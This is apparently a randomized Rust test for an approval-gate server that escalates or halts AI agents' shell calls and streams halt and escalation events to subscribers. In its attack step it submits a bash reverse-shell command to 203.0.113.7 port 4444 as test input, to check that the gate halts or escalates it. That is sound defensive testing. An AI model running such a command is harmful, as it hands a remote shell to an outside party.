//! The real server, its subscribers, and the steps that are taken with them.

use crate::chance::Chance;
use crate::gate::Served;
use crate::model::{Filter, Kind, Model, Question, What};
use crate::subscriber::Subscriber;
use haltgate::proto::v1 as pb;
use haltgate::proto::v1::approval_gate_client::ApprovalGateClient;
use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::Duration;
use tokio::task::{JoinHandle, JoinSet};
use tonic::transport::Channel;

/// In the first one somebody watches for halts, so that they wait; in the second nobody does.
const WATCHED: &str = "default";
const UNWATCHED: &str = "shop";
const SESSIONS: [&str; 3] = ["a", "b", "c"];
const RUNS: [&str; 2] = ["", "r"];
const POLICY: &str = r#"{ "server": { "heartbeat": "1s", "drain_timeout": "1s" } }"#;

pub(crate) struct Desk {
    chance: Chance,
    served: Option<Served>,
    address: String,
    client: ApprovalGateClient<Channel>,
    watcher: JoinHandle<()>,
    model: Model,
    subscribers: Vec<Subscriber>,
    numbered: u64,
    taken: BTreeMap<&'static str, u64>,
}

fn filter(
    kind: Kind,
    project: &'static str,
    session: Option<&'static str>,
    run: Option<&'static str>,
) -> Filter {
    Filter { kind, project, session, run }
}

fn start(folder: Option<Arc<tempfile::TempDir>>) -> Served {
    let options = ["--store", "gate.db"];
    match folder {
        Some(folder) => Served::start_in(folder, &options),
        None => Served::start(POLICY, &options),
    }
}

impl Desk {
    pub(crate) async fn start(chance: Chance) -> Self {
        let served = start(None);
        let address = served.address.clone();
        let client = ApprovalGateClient::connect(format!("http://{address}")).await.unwrap();
        let watcher = watch(client.clone()).await;
        let filters = [
            filter(Kind::Escalation, WATCHED, None, None),
            filter(Kind::Escalation, WATCHED, None, None),
            filter(Kind::Escalation, WATCHED, Some("a"), None),
            filter(Kind::Escalation, WATCHED, None, Some("r")),
            filter(Kind::Escalation, UNWATCHED, None, None),
            filter(Kind::Halt, WATCHED, None, None),
            filter(Kind::Halt, WATCHED, Some("b"), None),
            filter(Kind::Halt, UNWATCHED, None, None),
        ];
        let subscribers =
            filters.into_iter().enumerate().map(|(name, filter)| Subscriber::new(name, filter)).collect();
        let mut desk = Self {
            chance,
            served: Some(served),
            address,
            client,
            watcher,
            model: Model::default(),
            subscribers,
            numbered: 0,
            taken: BTreeMap::new(),
        };
        for subscriber in &mut desk.subscribers {
            subscriber.begin(&desk.address, &desk.model).await;
        }
        desk
    }

    /// One random step, and what each subscriber saw so far is right.
    pub(crate) async fn step(&mut self, step: u64) {
        let name = match self.chance.below(1_000) {
            0..=239 => self.raise().await,
            240..=339 => self.attack().await,
            340..=489 => self.answer().await,
            490..=529 => self.close().await,
            530..=769 => self.read().await,
            770..=839 => self.disconnect(),
            840..=889 => self.resume().await,
            890..=909 => self.begin_anew().await,
            910..=949 => self.burst().await,
            950..=969 => self.flood().await,
            970..=997 => self.restart().await,
            _ => self.expire().await,
        };
        *self.taken.entry(name).or_default() += 1;
        for subscriber in &mut self.subscribers {
            let checked =
                std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| subscriber.check(&self.model)));
            assert!(checked.is_ok(), "after step {step}, which was to {name}: {:?}", subscriber.filter);
        }
    }

    /// Everybody reads to the end; then everybody has seen everything.
    pub(crate) async fn finish(&mut self) {
        self.expire().await;
        for subscriber in &mut self.subscribers {
            if !subscriber.is_connected() {
                subscriber.resume(&self.address).await;
            }
            subscriber.read(&self.address, &self.model, usize::MAX).await;
            subscriber.check(&self.model);
        }
        // What came about at once, two who see all of it see in the same order.
        let (first, second) = (self.subscribers[0].order(), self.subscribers[1].order());
        let both = first.len().min(second.len());
        assert_eq!(first[first.len() - both..], second[second.len() - both..]);
        for index in 0..self.subscribers.len() {
            let mut anew = Subscriber::new(100 + index, self.subscribers[index].filter.clone());
            anew.begin(&self.address, &self.model).await;
        }
    }

    pub(crate) fn summary(&self) -> String {
        let resumed: u64 = self.subscribers.iter().map(|subscriber| subscriber.resumed).sum();
        let heartbeats: u64 = self.subscribers.iter().map(|subscriber| subscriber.heartbeats).sum();
        format!(
            "{} changes, {resumed} resumed, {heartbeats} heartbeats, steps: {:?}",
            self.model.now(),
            self.taken
        )
    }

    async fn ask(
        &mut self,
        project: &'static str,
        session: &'static str,
        run: &str,
        command: String,
    ) -> pb::DecideResponse {
        self.client.decide(request(project, session, run, command)).await.unwrap().into_inner()
    }

    fn place(&mut self) -> (&'static str, &'static str) {
        // Most happens where most subscribers look.
        (*self.chance.one(&[WATCHED, WATCHED, UNWATCHED]), *self.chance.one(&SESSIONS))
    }

    async fn raise(&mut self) -> &'static str {
        let (project, session) = self.place();
        self.escalate(project, session).await;
        "raise"
    }

    async fn escalate(&mut self, project: &'static str, session: &'static str) {
        self.numbered += 1;
        let run = *self.chance.one(&RUNS);
        let command = format!("frobnicate {}", self.numbered);
        let given = self.ask(project, session, run, command).await;
        assert_eq!(given.action(), pb::Action::Escalate, "{given:?}");
        let (id, run) = (given.escalation_id, run.to_owned());
        self.model.raised(vec![Question { id, kind: Kind::Escalation, project, session, run }]);
    }

    async fn attack(&mut self) -> &'static str {
        let (project, session) = self.place();
        self.numbered += 1;
        // A run of its own: in one that is halted nothing is asked any more.
        let run = format!("run-{}", self.numbered);
        let given =
            self.ask(project, session, &run, "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1".to_owned()).await;
        let id = given.halt_id.clone();
        self.model.raised(vec![Question { id: id.clone(), kind: Kind::Halt, project, session, run }]);
        if project == WATCHED {
            assert_eq!(given.action(), pb::Action::Escalate, "{given:?}");
            return "attack and wait";
        }
        assert_eq!(given.action(), pb::Action::Halt, "{given:?}");
        self.model.ended(&[id], What::Expired);
        "attack unwatched"
    }

    async fn answer(&mut self) -> &'static str {
        let open = self.model.all_open();
        if open.is_empty() {
            return "answer nothing";
        }
        let id = self.chance.one(&open).clone();
        let question = self.model.question(&id);
        let yes = self.chance.below(2) == 0;
        let (target, verdict) = match (question.kind, yes) {
            (Kind::Escalation, true) => {
                (pb::answer_request::Target::EscalationId(id.clone()), pb::Verdict::Approve)
            }
            (Kind::Escalation, false) => {
                (pb::answer_request::Target::EscalationId(id.clone()), pb::Verdict::Reject)
            }
            (Kind::Halt, true) => (pb::answer_request::Target::HaltId(id.clone()), pb::Verdict::RunAnyway),
            (Kind::Halt, false) => (pb::answer_request::Target::HaltId(id.clone()), pb::Verdict::Stop),
        };
        let request = pb::AnswerRequest {
            project: question.project.to_owned(),
            target: Some(target),
            verdict: verdict.into(),
            ..Default::default()
        };
        self.client.answer(request).await.unwrap();
        self.model.ended(&[id], What::Answered);
        "answer"
    }

    async fn close(&mut self) -> &'static str {
        let (project, session) = self.place();
        let open = self.model.open_of(project, session);
        let request = pb::CloseSessionRequest { project: project.to_owned(), session_id: session.to_owned() };
        match self.client.close_session(request).await {
            Ok(_) => {}
            Err(status) => assert_eq!((status.code(), open.len()), (tonic::Code::NotFound, 0), "{status}"),
        }
        if !open.is_empty() {
            self.model.ended(&open, What::Withdrawn);
        }
        let again = pb::OpenSessionRequest {
            project: project.to_owned(),
            session_id: session.to_owned(),
            ..Default::default()
        };
        self.client.open_session(again).await.unwrap();
        "close"
    }

    /// Asks many things at once; what they raise is to be told to the model.
    fn ask_many(&mut self, count: usize, padding: usize) -> JoinSet<Question> {
        let mut asked = JoinSet::new();
        for number in 0..count {
            self.numbered += 1;
            let (session, run) = (SESSIONS[number % 3], RUNS[number % 2]);
            let command = format!("frobnicate {} {}", self.numbered, "x".repeat(padding));
            let (request, mut client) = (request(WATCHED, session, run, command), self.client.clone());
            asked.spawn(async move {
                let given = client.decide(request).await.unwrap().into_inner();
                assert_eq!(given.action(), pb::Action::Escalate, "{given:?}");
                let (id, run) = (given.escalation_id, run.to_owned());
                Question { id, kind: Kind::Escalation, project: WATCHED, session, run }
            });
        }
        asked
    }

    /// More than is kept ready for one reader, so that those who do not read are read for from the store.
    async fn flood(&mut self) -> &'static str {
        let raised = self.ask_many(60, 4_000).join_all().await;
        self.model.raised(raised);
        "flood"
    }

    /// Many are asked at once, while one subscriber begins anew and another one resumes.
    async fn burst(&mut self) -> &'static str {
        let (beginner, resumer) = (*self.chance.one(&[0, 2]), *self.chance.one(&[1, 3]));
        let before = self.model.open(&self.subscribers[beginner].filter);
        self.subscribers[beginner].forget(&self.model);
        let asked = self.ask_many(12, 0);
        self.subscribers[beginner].begin_meanwhile(&self.address).await;
        self.subscribers[resumer].resume(&self.address).await;
        self.model.raised(asked.join_all().await);
        self.subscribers[beginner].check_snapshot(&before);
        "burst"
    }

    fn somebody(&mut self) -> usize {
        self.chance.below(self.subscribers.len())
    }

    async fn read(&mut self) -> &'static str {
        let somebody = self.somebody();
        let most = *self.chance.one(&[1, 2, 5, 1_000]);
        let subscriber = &mut self.subscribers[somebody];
        if !subscriber.is_connected() {
            return "read nothing";
        }
        subscriber.read(&self.address, &self.model, most).await;
        "read"
    }

    fn disconnect(&mut self) -> &'static str {
        let somebody = self.somebody();
        self.subscribers[somebody].disconnect();
        "disconnect"
    }

    async fn resume(&mut self) -> &'static str {
        let somebody = self.somebody();
        // Connected or not: a client may also come again before its old connection is gone.
        self.subscribers[somebody].resume(&self.address).await;
        "resume"
    }

    async fn begin_anew(&mut self) -> &'static str {
        let somebody = self.somebody();
        self.subscribers[somebody].begin(&self.address, &self.model).await;
        "begin anew"
    }

    async fn restart(&mut self) -> &'static str {
        let served = self.served.take().unwrap();
        let gently = self.chance.below(2) == 0;
        let folder = if gently {
            let folder = Arc::clone(&served.folder);
            let (status, log) = served.end("TERM");
            assert_eq!(status.code(), Some(0), "{log}");
            folder
        } else {
            served.kill()
        };
        let served = start(Some(folder));
        self.address.clone_from(&served.address);
        self.served = Some(served);
        self.client = ApprovalGateClient::connect(format!("http://{}", self.address)).await.unwrap();
        self.watcher.abort();
        self.watcher = watch(self.client.clone()).await;
        if gently { "restart" } else { "kill and start" }
    }

    /// The watcher leaves for longer than it takes to come back, and what waited for it ends.
    async fn expire(&mut self) -> &'static str {
        let filter = filter(Kind::Halt, WATCHED, None, None);
        let waiting: Vec<String> = self.model.open(&filter).into_iter().collect();
        if waiting.is_empty() {
            return "expire nothing";
        }
        self.watcher.abort();
        let deadline = tokio::time::Instant::now() + Duration::from_secs(60);
        while self.halts_open().await > 0 {
            assert!(tokio::time::Instant::now() < deadline, "halts that nobody watches end");
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        // Each is settled by itself, one after the other; the model does not know in which order.
        self.model.ended(&waiting, What::Expired);
        self.watcher = watch(self.client.clone()).await;
        "expire"
    }

    async fn halts_open(&mut self) -> u32 {
        let request = pb::StreamAttackHaltsRequest { observe_only: true, ..Default::default() };
        let mut feed = self.client.stream_attack_halts(request).await.unwrap().into_inner();
        loop {
            let message = feed.message().await.unwrap().unwrap();
            if let Some(pb::stream_attack_halts_response::Event::SnapshotEnd(end)) = message.event {
                return end.open;
            }
        }
    }
}

impl Drop for Desk {
    /// What the servers had to say is worth reading when the test fails.
    fn drop(&mut self) {
        if let Some(served) = self.served.as_ref().filter(|_| std::thread::panicking()) {
            println!("{}", served.log());
        }
    }
}

fn request(project: &str, session: &str, run: &str, command: String) -> pb::DecideRequest {
    let shell = pb::ShellCall { command, ..Default::default() };
    pb::DecideRequest {
        project: project.to_owned(),
        session_id: session.to_owned(),
        run_id: run.to_owned(),
        call: Some(pb::Call { kind: Some(pb::call::Kind::Shell(shell)) }),
        ..Default::default()
    }
}

/// Somebody who may answer, and reads everything.
async fn watch(mut client: ApprovalGateClient<Channel>) -> JoinHandle<()> {
    let request = pb::StreamAttackHaltsRequest::default();
    let mut feed = client.stream_attack_halts(request).await.unwrap().into_inner();
    tokio::spawn(async move { while let Ok(Some(_)) = feed.message().await {} })
}
